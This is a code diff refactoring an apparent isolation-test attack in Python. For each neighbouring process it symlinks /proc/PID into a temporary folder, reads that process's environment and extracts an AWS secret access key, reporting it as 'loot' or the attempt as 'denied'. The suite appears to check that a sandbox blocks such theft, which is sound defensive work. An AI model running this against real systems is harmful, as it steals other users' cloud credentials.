@@ -7,34 +7,34 @@ Means: a symbolic link in a folder of the student's that leads to /proc/PID. The
 import os
 import tempfile
 
-from attack import DONE, attempting, denied, loot, neighbours
+from attack import DONE, attempting, credential, denied, loot, neighbours
 
 
-def credential(path):
-    """The credential in an environ file, or None."""
-    with open(path, "rb") as file:
-        for entry in file.read().split(b"\0"):
-            if entry.startswith(b"AWS_SECRET_ACCESS_KEY="):
-                return entry
-    return None
+def any_credential(brief, folder):
+    why = "nobody else in sight"
+    for pid in neighbours(brief):
+        link = f"{folder}/{pid}"
+        try:
+            os.symlink(f"/proc/{pid}", link)
+            with open(f"{link}/environ", "rb") as file:
+                found = credential(file.read())
+        except OSError as error:
+            why = error
+            continue
+        if found:
+            loot(found)
+            return DONE
+    return denied("a symbolic link to /proc/PID", why)
 
 
 def run(brief):
-    why = "nobody else in sight"
-    with tempfile.TemporaryDirectory() as folder:
-        attempting()
-        for pid in neighbours(brief):
-            link = f"{folder}/{pid}"
-            try:
-                os.symlink(f"/proc/{pid}", link)
-                found = credential(f"{link}/environ")
-            except OSError as error:
-                why = error
-                continue
-            if found:
-                loot(found)
-                return DONE
-    return denied("a symbolic link to /proc/PID", why)
+    attempting()
+    try:
+        folder = tempfile.TemporaryDirectory()
+    except OSError as why:
+        return denied("a folder of one's own", why)
+    with folder:
+        return any_credential(brief, folder.name)
 
 
 ATTACK = {
